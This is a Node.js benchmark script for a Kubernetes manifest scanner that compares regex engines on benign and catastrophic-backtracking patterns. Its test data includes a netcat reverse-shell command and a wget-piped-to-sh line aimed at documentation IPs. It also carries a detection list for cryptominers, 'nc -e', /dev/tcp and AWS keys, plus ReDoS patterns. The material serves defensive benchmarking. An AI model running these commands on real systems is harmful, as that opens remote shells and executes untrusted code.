#!/usr/bin/env node
// Pattern engines benchmark: the core's linear engine and re2-wasm (with the literal prefilter in front,
// and bare) against JavaScript RegExp on benign user patterns; a catastrophic-backtracking pattern where
// RegExp is time-boxed in a child process; and whole scans of the 5,000-line bench file with and without a
// config of hostile patterns. Run after `pnpm build`:  node bench/patterns.mjs
import { spawn, spawnSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { performance } from 'node:perf_hooks';
import { pathToFileURL } from 'node:url';
import { createRequire } from 'node:module';
import { analyseManifest, parseConfig } from '../packages/core/dist/index.js';
import { linearPatternEngine } from '../packages/core/dist/patterns/index.js';
import { re2PatternEngine } from '../packages/re2-engine/dist/index.js';
import { generateManifests } from './lib/manifest-corpus.mjs';
import { ms, percentile } from './lib/stats.mjs';

// re2-wasm itself, as the re2-engine package resolves it (pnpm keeps it out of the root's node_modules).
const { RE2 } = createRequire(new URL('../packages/re2-engine/package.json', import.meta.url))('re2-wasm');

const IMAGES = [
  'nginx:1.25', 'docker.io/library/alpine:3.19', 'ghcr.io/acme/billing-worker:2024.11.3', 'busybox',
  'registry.k8s.io/kube-proxy:v1.30.2', 'quay.io/prometheus/node-exporter:v1.8.1', 'bitnami/kubectl:latest',
  'public.ecr.aws/aws-cli/aws-cli:2.15.0', 'mcr.microsoft.com/dotnet/runtime:8.0', 'curlimages/curl:8.7.1',
  'postgres:16-alpine@sha256:4e8c9e5a0d3b7f1c2a6e9d8b7c6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a',
];
const COMMANDS = [
  '/bin/sh -c pg_dump -h db -U app app | gzip > /backup/app.sql.gz',
  'python manage.py clearsessions', 'sh -c curl -fsS http://svc.internal/healthz || exit 1',
  'bash -c nc -e /bin/sh 203.0.113.7 4444', '/usr/local/bin/cleanup --older-than 7d --dry-run=false',
  'kubectl delete pod -l job=stale --field-selector=status.phase==Succeeded',
  'sh -c wget -qO- http://198.51.100.4/x.sh | sh', 'node dist/cron/send-digest.js --tenant all',
];

function auditEvent(size) {
  const items = [];
  let json = '';
  for (let i = 0; json.length < size; i++) {
    items.push({
      name: `job-${i}`, image: `registry.example.com/team/app-${i}:1.2.${i}`,
      command: ['sh', '-c', `echo run ${i} && /opt/app/bin/task --shard ${i % 16} --since 24h`],
      env: [{ name: 'LOG_LEVEL', value: 'info' }, { name: 'REGION', value: 'eu-west-1' }],
    });
    json = JSON.stringify({ kind: 'Event', apiVersion: 'audit.k8s.io/v1', verb: 'create', user: { username: 'system:serviceaccount:ci:deployer' }, objectRef: { resource: 'cronjobs', namespace: 'ci' }, requestObject: { spec: { jobTemplate: { spec: { template: { spec: { containers: items } } } } } } });
  }
  return json;
}

const INPUTS = [
  { name: 'image names', texts: IMAGES },
  { name: 'command lines', texts: COMMANDS },
  { name: '100 KB audit event', texts: [auditEvent(100_000)] },
];
const PATTERNS = ['stratum\\+tcp://|xmrig', '(?i)nc(at)? -e', '[a-z0-9]{32,}', '^(docker\\.io/)?(library/)?(alpine|busybox)(:|$)'];

function toRegExp(pattern) {
  const flags = pattern.startsWith('(?i)') ? 'iu' : 'u';
  return new RegExp(pattern.replace(/^\(\?i\)/, ''), flags);
}

/** Mean ns per test() call over the inputs, measured for about `budgetMs`. */
function measure(matcher, texts, budgetMs = 150) {
  let sink = 0;
  for (let i = 0; i < 50; i++) for (const t of texts) sink += matcher.test(t) ? 1 : 0; // warm-up
  let calls = 0;
  const start = process.hrtime.bigint();
  let elapsed = 0n;
  const budget = BigInt(budgetMs) * 1_000_000n;
  while (elapsed < budget) {
    for (let i = 0; i < 10; i++) for (const t of texts) sink += matcher.test(t) ? 1 : 0;
    calls += 10 * texts.length;
    elapsed = process.hrtime.bigint() - start;
  }
  if (sink < 0) console.log(sink);
  return Number(elapsed) / calls;
}

const fmtNs = (ns) => (ns >= 1e6 ? `${(ns / 1e6).toFixed(2)} ms` : ns >= 1e3 ? `${(ns / 1e3).toFixed(1)} µs` : `${ns.toFixed(0)} ns`);
const pad = (s, n) => String(s).padEnd(n);
const lpad = (s, n) => String(s).padStart(n);

function table(headers, rows) {
  const widths = headers.map((h, i) => Math.max(h.length, ...rows.map((r) => String(r[i]).length)));
  const line = (cells) => '  ' + cells.map((c, i) => (i < 2 ? pad(c, widths[i]) : lpad(c, widths[i]))).join('  ');
  console.log(line(headers));
  console.log('  ' + widths.map((w) => '-'.repeat(w)).join('  '));
  for (const r of rows) console.log(line(r));
}

/** Runs `pattern` with RegExp over `text` in a child process, killed after `timeoutMs`. */
function timeBoxedRegExp(pattern, textExpr, timeoutMs) {
  return new Promise((resolve) => {
    const code = `const t=${textExpr};const s=process.hrtime.bigint();const r=new RegExp(${JSON.stringify(pattern)},'u').test(t);process.stdout.write(JSON.stringify({r,ms:Number(process.hrtime.bigint()-s)/1e6}))`;
    const child = spawn(process.execPath, ['-e', code], { stdio: ['ignore', 'pipe', 'inherit'] });
    let out = '';
    child.stdout.on('data', (d) => (out += d));
    const timer = setTimeout(() => child.kill('SIGKILL'), timeoutMs);
    child.on('exit', () => {
      clearTimeout(timer);
      resolve(out ? JSON.parse(out) : null);
    });
  });
}

export async function runPatternsBench() {
  console.log('\n== patterns ==');
  console.log('test() cost per call, mean over the inputs; ratio = engine time / RegExp time;');
  console.log('re2-wasm = the engine hosts use (literal prefilter, a per-pattern memo of answers for texts up to 1 KB, then RE2);');
  console.log('bare = re2-wasm called directly. This loop repeats its texts, so re2-wasm\'s short-text figures are prefilter');
  console.log('rejections or memo hits; bare is what each call that reaches the WebAssembly heap costs.\n');
  const rows = [];
  for (const pattern of PATTERNS) {
    const engines = [toRegExp(pattern), linearPatternEngine.compile(pattern), re2PatternEngine.compile(pattern), new RE2(pattern, 'u')];
    for (const input of INPUTS) {
      const [js, linear, re2, bare] = engines.map((m) => measure(m, input.texts));
      const ratio = (t) => `${(t / js).toFixed(2)}x`;
      rows.push([pattern, input.name, fmtNs(js), fmtNs(linear), ratio(linear), fmtNs(re2), ratio(re2), fmtNs(bare), ratio(bare)]);
    }
  }
  table(['pattern', 'input', 'RegExp', 'linear', 'ratio', 're2-wasm', 'ratio', 'bare re2', 'ratio'], rows);

  const hostile = '(a+)+$';
  const text = 'a'.repeat(100_000) + '!';
  console.log(`\nhostile pattern ${hostile} over 100,000 'a' followed by '!' (no match)\n`);
  const hostileRows = [];
  for (const engine of [linearPatternEngine, re2PatternEngine]) {
    const start = process.hrtime.bigint();
    const compiled = engine.compile(hostile);
    const result = compiled.test(text);
    const ms = Number(process.hrtime.bigint() - start) / 1e6;
    hostileRows.push([engine.name, String(result), `${ms.toFixed(2)} ms`]);
  }
  const js = await timeBoxedRegExp(hostile, `'a'.repeat(100000)+'!'`, 2000);
  hostileRows.push(['RegExp (child process)', js ? String(js.r) : '-', js ? `${js.ms.toFixed(2)} ms` : '> 2 s (killed)']);
  table(['engine', 'match', 'time'], hostileRows);

  runScanBench();
}

/**
 * Patterns that take a backtracking engine exponential time, or a DFA many states, on the right input;
 * none matches the benign bench file, so the figures are the cost of running them, not of reporting.
 */
const HOSTILE_PATTERNS = [
  '(a+)+$', '(a|aa)*b$', '(x+x+)+y', '(\\w+\\s?)+!$', '(.*a){10}[0-9]{12}$', '^(([a-z])+.)+[A-Z]([a-z])+$',
  '([a-zA-Z0-9]+)*@!', '(?i)(\\d+|[a-f]+)*z$',
];
/** What a team would write: the same number of patterns, none hostile. */
const BENIGN_PATTERNS = [
  'stratum\\+tcp://', 'xmrig', '(?i)minerd', '[a-z0-9]{32,}', 'nc(at)? -e', '^registry\\.evil\\.example/', 'AKIA[0-9A-Z]{16}', '/dev/(tcp|udp)/',
];
const configText = (name, patterns) =>
  ['custom:', '  patterns:', ...patterns.map((pattern, index) => `    - {id: ${name}-${index + 1}, pattern: '${pattern}', severity: hint}`), ''].join('\n');
const HOSTILE_CONFIG = configText('hostile', HOSTILE_PATTERNS);
const BENIGN_CONFIG = configText('benign', BENIGN_PATTERNS);

/**
 * The 5,000-line bench file, and the same file with one more CronJob whose command is 100,000 characters
 * crafted for the patterns (what an attacker who also planted the config would commit).
 */
function scanInputs() {
  const dataDir = new URL('.data/', import.meta.url).pathname;
  mkdirSync(dataDir, { recursive: true });
  const text = generateManifests(5000);
  const adversarial =
    text +
    '\n---\napiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: adversarial\nspec:\n  schedule: "@hourly"\n  jobTemplate:\n    spec:\n' +
    '      template:\n        spec:\n          restartPolicy: Never\n          containers:\n            - name: main\n              image: registry.example.com/a:1\n' +
    `              command: ["sh", "-c", "${'a'.repeat(50_000)}!${'x'.repeat(49_999)}"]\n`;
  const files = {
    plain: dataDir + 'manifests-5000.yaml',
    adversarial: dataDir + 'manifests-5000-adversarial.yaml',
    hostile: dataDir + 'hostile.jobsentinel.yaml',
    benign: dataDir + 'benign.jobsentinel.yaml',
    none: dataDir + 'no-patterns.jobsentinel.yaml',
  };
  writeFileSync(files.plain, text);
  writeFileSync(files.adversarial, adversarial);
  writeFileSync(files.hostile, HOSTILE_CONFIG);
  writeFileSync(files.benign, BENIGN_CONFIG);
  writeFileSync(files.none, 'profile: extended\n');
  return { text, adversarial, files };
}

const RUNS = 30;
const SCAN_RUNS = 11;

function runScanBench() {
  const { text, adversarial, files } = scanInputs();
  const [hostile, benign] = [HOSTILE_CONFIG, BENIGN_CONFIG].map((text) => {
    const { config, errors } = parseConfig(text, '.jobsentinel.yaml');
    if (errors.length > 0) throw new Error(errors.map((error) => error.message).join('; '));
    return config;
  });

  console.log(
    `\nanalyseManifest of the 5,000-line bench file, without custom patterns and with ${HOSTILE_PATTERNS.length} benign or ${HOSTILE_PATTERNS.length} hostile ones ` +
      `(CPU time of this process, median of ${RUNS}, variants interleaved so machine load falls on all alike)\n`,
  );
  const variants = [
    ['no custom patterns', undefined, undefined],
    ['benign patterns, linear engine', benign, linearPatternEngine],
    ['hostile patterns, linear engine', hostile, linearPatternEngine],
    ['benign patterns, re2-wasm engine', benign, re2PatternEngine],
    ['hostile patterns, re2-wasm engine', hostile, re2PatternEngine],
  ];
  const rows = [];
  for (const [name, input] of [['bench file', text], ['+ 100,000-char adversarial command', adversarial]]) {
    const analyse = ([, cfg, engine]) => () => analyseManifest(input, 'bench.yaml', { config: cfg, patternEngine: engine });
    const medians = interleaved(variants.map(analyse), RUNS).map((cpu) => percentile(cpu, 50));
    variants.forEach((variant, index) => {
      const findings = analyse(variant)().findings.length;
      const benignTwin = variant[1] === hostile ? medians[index - 1] : undefined;
      rows.push([name, variant[0], String(findings), ms(medians[index]), index === 0 ? '' : change(medians[index], medians[0]), benignTwin ? change(medians[index], benignTwin) : '']);
    });
  }
  table(['input', 'config', 'findings', 'median', 'vs none', 'hostile vs benign'], rows);

  console.log(`\n\`jobsentinel scan --format json --config …\` (CPU time of the process, user + system, median of ${SCAN_RUNS}, interleaved; Node start-up and re2-wasm loading included)\n`);
  const cli = new URL('../packages/cli/bin/jobsentinel.js', import.meta.url).pathname;
  const scanRows = [];
  for (const [name, file] of [['bench file', files.plain], ['+ 100,000-char adversarial command', files.adversarial]]) {
    const configs = [['no custom patterns', files.none], [`${BENIGN_PATTERNS.length} benign patterns`, files.benign], [`${HOSTILE_PATTERNS.length} hostile patterns`, files.hostile]];
    const runs = configs.map(([, configFile]) => () => scanCpu(cli, ['scan', '--format', 'json', '--config', configFile, file]));
    const medians = interleavedResults(runs, SCAN_RUNS).map((list) => ({
      cpu: percentile(list.map((r) => r.cpu).sort((a, b) => a - b), 50),
      wall: percentile(list.map((r) => r.wall).sort((a, b) => a - b), 50),
      findings: list[0].findings,
    }));
    configs.forEach(([label], index) => {
      const { cpu, wall, findings } = medians[index];
      scanRows.push([name, label, String(findings), ms(cpu), ms(wall), index === 0 ? '' : change(cpu, medians[0].cpu), index === 2 ? change(cpu, medians[1].cpu) : '']);
    });
  }
  table(['input', 'config', 'findings', 'CPU', 'wall', 'CPU vs none', 'hostile vs benign'], scanRows);
}

const change = (value, base) => `${value >= base ? '+' : ''}${((value / base - 1) * 100).toFixed(1)}%`;

/** CPU times (ms) of each function, run in turns: warm-up, then `runs` rounds of one call each. */
function interleaved(fns, runs) {
  for (let i = 0; i < 5; i++) for (const fn of fns) fn();
  const cpu = fns.map(() => []);
  for (let i = 0; i < runs; i++) {
    fns.forEach((fn, index) => {
      const start = process.cpuUsage();
      fn();
      const used = process.cpuUsage(start);
      cpu[index].push((used.user + used.system) / 1000);
    });
  }
  return cpu.map((list) => list.sort((a, b) => a - b));
}

function interleavedResults(fns, runs) {
  const results = fns.map(() => []);
  for (let i = 0; i < runs; i++) fns.forEach((fn, index) => results[index].push(fn()));
  return results;
}

/** One CLI run: CPU time (user + system, from /usr/bin/time when present) and wall time, in ms. */
function scanCpu(cli, args) {
  const start = performance.now();
  const result = spawnSync('/usr/bin/time', ['-f', '%U %S', process.execPath, cli, ...args], { encoding: 'utf8', maxBuffer: 256 * 1024 * 1024 });
  const wall = performance.now() - start;
  if (result.error) throw result.error;
  if (result.status !== 1) throw new Error(`jobsentinel ${args.join(' ')} exited ${result.status}: ${result.stderr}`);
  const [user, system] = result.stderr.trim().split('\n').at(-1).split(' ').map(Number);
  return { cpu: (user + system) * 1000, wall, findings: JSON.parse(result.stdout).findings.length };
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) await runPatternsBench();
